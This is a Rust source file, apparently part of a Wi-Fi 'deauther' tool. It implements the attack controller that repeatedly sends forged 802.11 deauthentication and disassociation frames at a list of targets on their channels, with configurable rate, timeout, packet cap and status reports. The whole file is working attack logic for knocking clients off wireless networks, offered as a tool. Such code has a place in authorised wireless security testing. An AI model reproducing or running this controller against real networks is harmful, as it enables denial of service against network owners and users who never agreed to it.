//! Deauthentication attack state machine
//!
//! [`AttackController`] is driven by repeated, non-blocking calls to
//! [`AttackController::tick`]. It never sleeps: every decision (send a frame,
//! report status, stop) is a comparison between the supplied timestamp and
//! the timestamps recorded on previous ticks.
//!
//! ```text
//!           start (valid)               stop / timeout / packet cap
//!   Idle ------------------> Running ------------------------------> Idle
//! ```

use super::packet::{FrameBuilder, MgmtSubtype, FRAME_LEN};
use super::scheduler::{format_duration_ms, RateScheduler, STATUS_WINDOW_MS};
use super::target::{Target, TargetList};
use deauther_core::{Error, Result, Transmitter};
use std::fmt;
use tracing::{debug, info, trace, warn};

/// Attack configuration
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DeauthConfig {
    /// Send deauthentication frames
    pub deauth: bool,
    /// Send disassociation frames
    pub disassoc: bool,
    /// Frames per second
    pub rate: u32,
    /// Run time limit, 0 = unbounded
    pub timeout_ms: u32,
    /// Frame count limit, 0 = unbounded
    pub max_packets: u64,
    /// Suppress summary, status and stop reports
    pub silent: bool,
}

impl Default for DeauthConfig {
    fn default() -> Self {
        Self {
            deauth: true,
            disassoc: true,
            rate: 20,
            timeout_ms: 300_000,
            max_packets: 0,
            silent: false,
        }
    }
}

impl DeauthConfig {
    /// Number of frames sent on each target visit
    pub fn frames_per_visit(&self) -> u32 {
        self.deauth as u32 + self.disassoc as u32
    }

    pub fn mode_name(&self) -> &'static str {
        match (self.deauth, self.disassoc) {
            (true, true) => "deauthentication and disassociation",
            (true, false) => "deauthentication",
            (false, true) => "disassociation",
            (false, false) => "none",
        }
    }

    /// Check mode selection and rate
    pub fn validate(&self) -> Result<()> {
        if !self.deauth && !self.disassoc {
            return Err(Error::invalid_parameter("mode", "Invalid mode"));
        }
        if self.rate == 0 {
            return Err(Error::invalid_parameter(
                "rate",
                "Packets per second must be greater than zero",
            ));
        }
        Ok(())
    }

    fn subtypes(&self) -> impl Iterator<Item = MgmtSubtype> {
        [
            (self.deauth, MgmtSubtype::Deauth),
            (self.disassoc, MgmtSubtype::Disassoc),
        ]
        .into_iter()
        .filter_map(|(enabled, subtype)| enabled.then_some(subtype))
    }
}

/// Reports emitted by the controller
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DeauthEvent {
    /// A new attack was installed
    Started {
        mode: &'static str,
        rate: u32,
        timeout_ms: u32,
        max_packets: u64,
        targets: Vec<Target>,
    },
    /// One status window elapsed
    Status { packets_per_second: u64, total: u64 },
    /// The attack ended
    Stopped { total: u64 },
    /// `start` refused its arguments; reported even when silent
    Rejected { reason: String },
}

impl fmt::Display for DeauthEvent {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            DeauthEvent::Started {
                mode,
                rate,
                timeout_ms,
                max_packets,
                targets,
            } => {
                writeln!(f, "[ ===== Deauth Attack ===== ]")?;
                writeln!(f, "{:<16}{}", "Mode:", mode)?;
                writeln!(f, "{:<16}{}", "Packets/second:", rate)?;
                if *timeout_ms > 0 {
                    writeln!(f, "{:<16}{}", "Timeout:", format_duration_ms(*timeout_ms as u64))?;
                } else {
                    writeln!(f, "{:<16}-", "Timeout:")?;
                }
                if *max_packets > 0 {
                    writeln!(f, "{:<16}{}", "Max. packets:", max_packets)?;
                } else {
                    writeln!(f, "{:<16}-", "Max. packets:")?;
                }
                write!(f, "{:<16}{}", "Targets:", targets.len())?;
                for target in targets {
                    write!(f, "\n- {}", target)?;
                }
                Ok(())
            }
            DeauthEvent::Status {
                packets_per_second,
                total,
            } => write!(
                f,
                "[Deauth attack: {} pkts/s, {} total]",
                packets_per_second, total
            ),
            DeauthEvent::Stopped { total } => {
                write!(f, "Deauth attack stopped. Sent {} packets.", total)
            }
            DeauthEvent::Rejected { reason } => write!(f, "ERROR: {}", reason),
        }
    }
}

/// Destination for controller reports
pub trait EventSink: Send {
    fn emit(&mut self, event: DeauthEvent);
}

impl EventSink for Vec<DeauthEvent> {
    fn emit(&mut self, event: DeauthEvent) {
        self.push(event);
    }
}

/// Writes reports as `tracing` info lines
#[derive(Debug, Clone, Copy, Default)]
pub struct TracingSink;

impl EventSink for TracingSink {
    fn emit(&mut self, event: DeauthEvent) {
        match &event {
            DeauthEvent::Started { .. } => {
                for line in event.to_string().lines() {
                    info!("{}", line);
                }
            }
            DeauthEvent::Status {
                packets_per_second,
                total,
            } => info!(pps = packets_per_second, total, "{}", event),
            DeauthEvent::Stopped { total } => info!(total, "{}", event),
            DeauthEvent::Rejected { .. } => warn!("{}", event),
        }
    }
}

#[derive(Debug, Default)]
struct AttackState {
    targets: TargetList,
    config: DeauthConfig,
    start_ms: u32,
    last_status_ms: u32,
    last_send_ms: u32,
    total_sent: u64,
    sent_this_window: u64,
    failed: u64,
    interval_ms: u32,
}

/// Paces deauthentication/disassociation frames over a target list
///
/// Idle while the target list is empty. Counters survive [`stop`] so the
/// final totals can be read after the attack ends; they are zeroed by the
/// next successful [`start`].
///
/// [`start`]: AttackController::start
/// [`stop`]: AttackController::stop
pub struct AttackController<T, S = TracingSink> {
    transmitter: T,
    sink: S,
    builder: FrameBuilder,
    state: AttackState,
}

impl<T: Transmitter> AttackController<T, TracingSink> {
    pub fn new(transmitter: T) -> Self {
        Self::with_sink(transmitter, TracingSink)
    }
}

impl<T: Transmitter, S: EventSink> AttackController<T, S> {
    pub fn with_sink(transmitter: T, sink: S) -> Self {
        Self {
            transmitter,
            sink,
            builder: FrameBuilder::new(),
            state: AttackState::default(),
        }
    }

    /// Install a new attack
    ///
    /// On success every target is moved out of `targets` (it is left empty)
    /// and any attack already running is stopped first. On error nothing
    /// changes: the running attack, if any, continues and `targets` keeps
    /// its contents.
    pub fn start(&mut self, targets: &mut TargetList, config: DeauthConfig, now_ms: u32) -> Result<()> {
        let checked = if targets.is_empty() {
            Err(Error::invalid_parameter("targets", "No targets specified"))
        } else {
            config.validate()
        };
        if let Err(e) = checked {
            let reason = match &e {
                Error::InvalidParameter { reason, .. } => reason.clone(),
                other => other.to_string(),
            };
            self.sink.emit(DeauthEvent::Rejected { reason });
            return Err(e);
        }

        self.stop();

        if !config.silent {
            self.sink.emit(DeauthEvent::Started {
                mode: config.mode_name(),
                rate: config.rate,
                timeout_ms: config.timeout_ms,
                max_packets: config.max_packets,
                targets: targets.iter().copied().collect(),
            });
        }

        let interval_ms = RateScheduler::interval_ms(config.rate, config.frames_per_visit());
        let state = &mut self.state;
        state.targets.move_from(targets);
        state.start_ms = now_ms;
        state.last_status_ms = now_ms;
        // first tick may send immediately
        state.last_send_ms = now_ms.wrapping_sub(interval_ms);
        state.total_sent = 0;
        state.sent_this_window = 0;
        state.failed = 0;
        state.interval_ms = interval_ms;

        debug!(
            targets = state.targets.len(),
            mode = config.mode_name(),
            rate = config.rate,
            interval_ms,
            timeout_ms = config.timeout_ms,
            max_packets = config.max_packets,
            "Deauth attack started"
        );
        state.config = config;

        Ok(())
    }

    /// End the running attack; no-op when idle
    pub fn stop(&mut self) {
        if !self.is_running() {
            return;
        }

        let state = &mut self.state;
        state.total_sent += state.sent_this_window;
        state.sent_this_window = 0;
        state.targets.clear();

        debug!(
            total = state.total_sent,
            failed = state.failed,
            "Deauth attack stopped"
        );

        if !state.config.silent {
            self.sink.emit(DeauthEvent::Stopped {
                total: state.total_sent,
            });
        }
    }

    /// Advance the attack to `now_ms`; no-op when idle
    pub fn tick(&mut self, now_ms: u32) {
        if !self.is_running() {
            return;
        }

        let config = &self.state.config;
        let timed_out = config.timeout_ms > 0
            && RateScheduler::elapsed(now_ms, self.state.start_ms) > config.timeout_ms;
        let capped = config.max_packets > 0 && self.state.total_sent >= config.max_packets;
        if timed_out || capped {
            self.stop();
            return;
        }

        let state = &mut self.state;

        // the window rolls over even when silent so the packet cap keeps working
        if RateScheduler::due(now_ms, state.last_status_ms, STATUS_WINDOW_MS) {
            state.total_sent += state.sent_this_window;
            if !state.config.silent {
                self.sink.emit(DeauthEvent::Status {
                    packets_per_second: state.sent_this_window,
                    total: state.total_sent,
                });
            }
            state.last_status_ms = now_ms;
            state.sent_this_window = 0;
        }

        if RateScheduler::due(now_ms, state.last_send_ms, state.interval_ms) {
            if !state.targets.has_next() {
                state.targets.reset();
            }
            if let Some(target) = state.targets.next().copied() {
                for subtype in state.config.subtypes() {
                    let frame = self
                        .builder
                        .build(subtype, target.transmitter(), target.receiver());
                    match self.transmitter.transmit(target.channel(), frame) {
                        Ok(()) => state.sent_this_window += 1,
                        Err(e) => {
                            state.failed += 1;
                            trace!(channel = target.channel(), error = %e, "Frame not sent");
                        }
                    }
                }
            }
            state.last_send_ms = now_ms;
        }

        if !state.targets.has_next() {
            state.targets.reset();
        }
    }

    pub fn is_running(&self) -> bool {
        !self.state.targets.is_empty()
    }

    /// Frames counted in completed status windows
    pub fn total_sent(&self) -> u64 {
        self.state.total_sent
    }

    /// All frames accepted by the transmitter, including the open window
    pub fn sent(&self) -> u64 {
        self.state.total_sent + self.state.sent_this_window
    }

    /// Frames the transmitter rejected
    pub fn failed(&self) -> u64 {
        self.state.failed
    }

    pub fn bytes_sent(&self) -> u64 {
        self.sent() * FRAME_LEN as u64
    }

    pub fn target_count(&self) -> usize {
        self.state.targets.len()
    }

    pub fn interval_ms(&self) -> u32 {
        self.state.interval_ms
    }

    pub fn config(&self) -> &DeauthConfig {
        &self.state.config
    }

    pub fn transmitter(&self) -> &T {
        &self.transmitter
    }

    pub fn transmitter_mut(&mut self) -> &mut T {
        &mut self.transmitter
    }

    pub fn sink(&self) -> &S {
        &self.sink
    }

    pub fn sink_mut(&mut self) -> &mut S {
        &mut self.sink
    }
}
